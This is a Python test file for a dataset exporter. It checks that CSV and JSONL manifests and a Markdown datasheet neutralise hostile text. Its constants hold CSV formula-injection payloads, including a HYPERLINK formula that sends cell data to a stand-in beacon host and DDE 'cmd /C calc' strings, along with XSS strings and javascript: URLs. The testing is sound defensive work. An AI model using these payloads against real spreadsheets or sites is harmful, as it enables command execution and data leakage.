"""Exports carry outside text inertly: manifests never hold a cell a spreadsheet runs, the datasheet
never holds HTML or Markdown that renders as anything but the text itself."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from sqlalchemy import update

from core.text import WORD_JOINER
from db.database import Database
from db.images import ImageMeta, add_image
from db.models import Breed, Decision, FlagKind, Image, ImageFlag
from db.provenance import Provenance
from db.reviews import record_decision
from review.export import export_dataset
from review.manifest import FORMULA_STARTS, MANIFEST_FIELDS, spreadsheet_safe
from tests.factories import breed_id, jpeg_bytes
from tests.markup import live_markup

BEACON = "http://127.0.0.2:9"
HYPERLINK = f'=HYPERLINK("{BEACON}/?"&A1,"pug")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
FULLWIDTH = "\uff1d1+1"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
REVIEWER = f"![]({BEACON}/reviewer) <img src=x onerror=alert(1)>"
SLUG = "pug<img src=x onerror=alert(1)>|x"


def _hostile(db: Database) -> list[int]:
    """Three accepted images whose every text field is hostile, a hostile breed slug, reviewer
    and leak detail."""
    values = [
        Provenance(
            source=MINUS,
            query=PLUS,
            url=f"{BEACON}/a.jpg",
            landing_url="javascript:alert(1)",
            license=SCRIPT + IMG,
            license_version="-1",  # a plain number: kept as it is
            license_url="data:text/html,<script>alert(1)</script>",
            creator=HYPERLINK,
            attribution=DDE,
        ),
        Provenance(
            source=TAB, query=CR, license=f"[x]({BEACON}/l) | ![]({BEACON}/i)", creator=FULLWIDTH
        ),
        Provenance(source="flickr", creator="-", attribution="Jo Smith", license_version="+2.5"),
    ]
    ids = []
    with db.session() as s:
        for n, origin in enumerate(values):
            row = add_image(
                s, db.store, jpeg_bytes(seed=n + 1), breed_id(db, "pug"), ImageMeta(origin)
            )
            ids.append(row.id)
            record_decision(s, row.id, REVIEWER, Decision.ACCEPT)
        record_decision(s, ids[0], "=cmd|' /C calc'!A0", Decision.ACCEPT)
        s.add(ImageFlag(image_id=ids[0], kind=FlagKind.LEAK, distance=1, detail=SCRIPT + "|" + IMG))
        s.execute(update(Breed).where(Breed.slug == "pug").values(slug=SLUG))
    # A landing URL stored before they were checked.
    with db.session() as s:
        s.execute(update(Image).where(Image.id == ids[1]).values(landing_url="javascript:x()"))
    return ids


def _inert(cell: str) -> bool:
    """A spreadsheet shows the cell as text (or it is a plain number)."""
    return (
        not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?\d+(\.\d*)?", cell) is not None
    )


@pytest.fixture
def hostile_export(database: Database, tmp_path: Path) -> tuple[Path, Path, list[int]]:
    ids = _hostile(database)
    with database.session() as s:
        export_dataset(s, database.store, tmp_path / "c", "csv")
        export_dataset(s, database.store, tmp_path / "j", "jsonl")
    return tmp_path / "c", tmp_path / "j", ids


def test_csv_manifest_cells_never_start_a_formula(hostile_export) -> None:
    root, _, ids = hostile_export
    with (root / "manifest.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [int(r["image_id"]) for r in rows] == ids
    assert all(_inert(cell) for row in rows for cell in row.values()), rows
    first, second, third = rows
    assert first["creator"] == "'" + HYPERLINK  # the text itself, behind the guard
    assert first["attribution"] == "'" + DDE
    assert (first["query"], first["source"]) == ("'" + PLUS, "'" + MINUS)
    assert first["license_version"] == "-1" and third["license_version"] == "+2.5"
    assert (second["source"], second["query"], second["creator"]) == (
        "'" + TAB,
        "'" + CR,
        "'" + FULLWIDTH,
    )
    assert third["creator"] == "'-" and third["attribution"] == "Jo Smith"
    # Only http(s) page addresses leave: not the javascript: page, not the data: licence.
    assert [r["landing_url"] for r in rows] == ["", "", ""]
    assert first["license_url"] == ""
    assert all(r["breed"] == SLUG for r in rows)


def test_csv_manifest_read_by_pandas_keeps_numbers_numbers(hostile_export) -> None:
    root, _, ids = hostile_export
    frame = pd.read_csv(
        root / "manifest.csv", dtype={"license_version": str}, keep_default_na=False
    )
    assert list(frame.columns) == list(MANIFEST_FIELDS)
    for column in ("width", "height", "image_id"):
        assert pd.api.types.is_integer_dtype(frame[column]), column
    assert list(frame["image_id"]) == ids
    assert set(frame["width"]) == {320}
    assert frame.loc[0, "creator"] == "'" + HYPERLINK
    text_columns = [c for c in MANIFEST_FIELDS if c not in ("width", "height", "image_id")]
    assert all(_inert(str(v)) for c in text_columns for v in frame[c]), frame


def test_jsonl_manifest_guards_the_same_cells_and_keeps_ints(hostile_export) -> None:
    _, root, ids = hostile_export
    records = [
        json.loads(line) for line in (root / "manifest.jsonl").read_text("utf-8").splitlines()
    ]
    assert [r["image_id"] for r in records] == ids
    assert all(isinstance(r[k], int) for r in records for k in ("width", "height", "image_id"))
    assert records[0]["creator"] == "'" + HYPERLINK and records[0]["landing_url"] is None
    assert all(_inert(v) for r in records for v in r.values() if isinstance(v, str))
    frame = pd.read_json(root / "manifest.jsonl", lines=True, dtype={"license_version": str})
    assert pd.api.types.is_integer_dtype(frame["image_id"])
    assert frame.loc[0, "attribution"] == "'" + DDE


def test_datasheet_holds_no_html_and_renders_only_text(hostile_export) -> None:
    root, _, _ = hostile_export
    text = (root / "DATASHEET.md").read_text(encoding="utf-8")
    lowered = text.lower()
    assert "<script" not in lowered and "<img" not in lowered
    # Nothing live: no element, and no bare address that a GitHub-flavoured renderer links.
    assert live_markup(text) == []
    # Every table keeps its columns: no escaped pipe splits a cell.
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    tables = re.findall(r"<table>.*?</table>", rendered, flags=re.DOTALL)
    assert len(tables) == 5  # breeds, sources, licences, reviewers, leaks
    for table in tables:
        header = table.count("<th>")
        rows = re.findall(r"<tr>(.*?)</tr>", table, flags=re.DOTALL)
        assert all(row.count("<td>") in (0, header) for row in rows), table
    # The reader still sees every character (entities and escapes undone by the renderer; the
    # word joiners that keep addresses from becoming links are invisible).
    shown = rendered.replace(WORD_JOINER, "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown
    assert "![](http://127.0.0.2:9/reviewer)" in shown


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("+1", "+1"),
        ("-0.5", "-0.5"),
        ("1e-3", "1e-3"),
        ("-1e3x", "'-1e3x"),
        ("-\u0661", "'-\u0661"),  # not an ASCII number
        ("plain", "plain"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: str | int | None, expected: str | int | None) -> None:
    assert spreadsheet_safe(value) == expected
